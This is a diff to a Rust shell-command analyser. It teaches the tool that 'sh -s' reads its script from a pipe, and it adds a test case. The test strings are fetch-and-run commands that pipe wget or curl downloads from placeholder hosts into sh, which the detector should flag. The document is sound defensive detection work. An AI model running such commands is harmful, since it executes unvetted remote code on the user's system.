@@ -1629,7 +1629,20 @@ fn shell_command(
         exec(a, &script.clone(), lang, span, "sh -c");
         return Val::unknown("‹sh -c …›");
     }
-    let operand = args.vals.iter().skip(1).find(|v| !v.text.starts_with('-'));
+    // `sh -s -- --prefix ~/.local`: `-s` reads the script from the input, and the
+    // words after it are the script's arguments, not a file to run.
+    let reads_input = args
+        .vals
+        .iter()
+        .skip(1)
+        .take_while(|v| v.text != "--")
+        .any(|v| v.text.starts_with('-') && !v.text.starts_with("--") && v.text.contains('s'));
+    let operand = args
+        .vals
+        .iter()
+        .skip(1)
+        .find(|v| !v.text.starts_with('-'))
+        .filter(|_| !reads_input);
     match operand {
         Some(file) => {
             let fetched = env
@@ -2399,6 +2412,12 @@ mod tests {
         ));
         assert!(has(
             "wget -qO- http://203.0.113.5/x | sh -s",
+            Lang::Shell,
+            "exec/fetched"
+        ));
+        // `-s` reads the script from the pipe; what follows are its arguments.
+        assert!(has(
+            "curl -fsSL https://mirror.example/boot | /bin/sh -s -- --plugins go --prefix ~/.local",
             Lang::Shell,
             "exec/fetched"
         ));
